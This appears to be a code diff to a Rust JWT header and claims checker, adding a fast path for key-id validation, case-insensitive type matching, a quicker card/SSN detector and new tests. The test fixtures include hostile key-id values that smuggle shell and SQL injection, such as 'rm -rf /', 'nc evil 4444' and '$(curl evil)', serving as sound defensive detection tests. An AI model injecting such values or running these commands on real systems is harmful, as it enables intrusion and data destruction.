@@ -207,6 +207,17 @@ fn suspicious_kid(kid: &Value) -> Option<Warning> {
             "kid is not a string: a server that passes it to a lookup unchecked may misbehave. kid must be a string.",
         ));
     };
+    // The usual kid (letters, digits, `_`, `-`, `.`; no `..` or `--`; no "union") can match none
+    // of the patterns below.
+    let b = kid.as_bytes();
+    if b.len() <= 256
+        && b.iter()
+            .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
+        && !b.windows(2).any(|w| w == b".." || w == b"--")
+        && !b.windows(5).any(|w| w.eq_ignore_ascii_case(b"union"))
+    {
+        return None;
+    }
     let lower = kid.to_ascii_lowercase();
     let why = if kid.contains("..")
         || kid.starts_with('/')
@@ -256,12 +267,12 @@ fn typ(header: &Map<String, Value>, kind: Kind) -> Option<Warning> {
              (RFC 8725 §3.11). Issuers should set typ, e.g. JWT or at+jwt.",
         )),
         Some(Value::String(t)) => {
-            let l = t.to_ascii_lowercase();
-            let known = l == "jwt"
-                || l == "jose"
-                || l == "application/jwt"
-                || l.ends_with("+jwt")
-                || l == "jose+json";
+            let is = |name: &str| t.eq_ignore_ascii_case(name);
+            let known = is("jwt")
+                || is("jose")
+                || is("application/jwt")
+                || t.len() >= 4 && t.as_bytes()[t.len() - 4..].eq_ignore_ascii_case(b"+jwt")
+                || is("jose+json");
             (!known).then(|| {
                 Warning::new(
                     "unusual_typ",
@@ -396,15 +407,26 @@ pub fn sensitive_name_bytes(name: &[u8]) -> bool {
     })
 }
 
-/// 13–19 digits (spaces and dashes allowed) passing the Luhn check.
-/// Whether a string value may be a card or social security number (a quick test first: most
-/// values are ruled out by their length or first character).
+/// Whether a string value may be a card or social security number. Quick tests first: most
+/// values are ruled out by their length or first byte, the rest by one pass over their bytes
+/// (both forms are digits with spaces or dashes, 13–19 digits for a card, 9 for an SSN).
 pub fn card_or_ssn(s: &[u8]) -> bool {
-    (11..=40).contains(&s.len())
-        && matches!(s[0], b'0'..=b'9' | b' ' | b'-')
+    if !(11..=40).contains(&s.len()) || !matches!(s[0], b'0'..=b'9' | b' ' | b'-') {
+        return false;
+    }
+    let mut digits = 0;
+    for &c in s {
+        match c {
+            b'0'..=b'9' => digits += 1,
+            b' ' | b'-' => {}
+            _ => return false,
+        }
+    }
+    ((13..=19).contains(&digits) || digits == 9 && s.len() == 11)
         && std::str::from_utf8(s).is_ok_and(|s| looks_like_card(s) || looks_like_ssn(s))
 }
 
+/// 13–19 digits (spaces and dashes allowed) passing the Luhn check.
 pub fn looks_like_card(s: &str) -> bool {
     if s.len() > 40
         || !s
@@ -571,6 +593,10 @@ mod tests {
             ("k1; rm -rf /", "SQL injection"),
             ("k1|nc evil 4444", "shell injection"),
             ("$(curl evil)", "shell injection"),
+            ("1UnionSelect2", "SQL injection"),
+            ("key--1", "SQL injection"),
+            ("k..1", "path traversal"),
+            (&"k".repeat(257), "absurd length"),
         ] {
             let w = suspicious_kid(&Value::from(kid)).unwrap();
             assert!(w.message.contains(why), "{kid}: {}", w.message);
@@ -603,6 +629,38 @@ mod tests {
             w.iter()
                 .all(|w| !w.message.contains("hunter2") && !w.message.contains("4111"))
         );
+    }
+
+    /// The plain parser's quick look lets through every payload the full walk would warn about,
+    /// wherever the claim sits, and rules out the usual clean payload.
+    #[test]
+    fn plain_payloads_flagged_for_the_sensitive_walk_whenever_it_finds_something() {
+        let payloads = [
+            r#"{"password":1}"#,
+            r#"{"a":{"b":{"Client_Secret":null}}}"#,
+            r#"{"a":[{"x-api_key":"v"}]}"#,
+            r#"{"a":[1,"4111 1111 1111 1111"]}"#,
+            r#"{"n":"078-05-1120"}"#,
+            r#"{"deep":{"card":"5500-0000-0000-0004"}}"#,
+            r#"{"sub":"u","exp":1800000900,"jti":"00000000000000000000000000000000"}"#,
+            r#"{"iss":"https://auth.example.com","aud":["api","web"],"scope":"read write"}"#,
+            r#"{"pin_code":"1234","key":"secretive","n":"078051120"}"#,
+        ];
+        for payload in payloads {
+            let t = signed(
+                b"a-strong-secret",
+                r#"{"alg":"HS256","typ":"JWT"}"#,
+                payload,
+            );
+            let claims = t.claim_set().unwrap();
+            assert!(claims.as_written().is_some(), "{payload} is plain");
+            let found = !sensitive_claims(claims.map()).is_empty();
+            assert!(claims.maybe_sensitive() || !found, "{payload}");
+        }
+        let clean = signed(b"k", r#"{"alg":"HS256"}"#, payloads[6]);
+        assert!(!clean.claim_set().unwrap().maybe_sensitive());
+        let card = signed(b"k", r#"{"alg":"HS256"}"#, payloads[3]);
+        assert!(card.claim_set().unwrap().maybe_sensitive());
     }
 
     #[test]
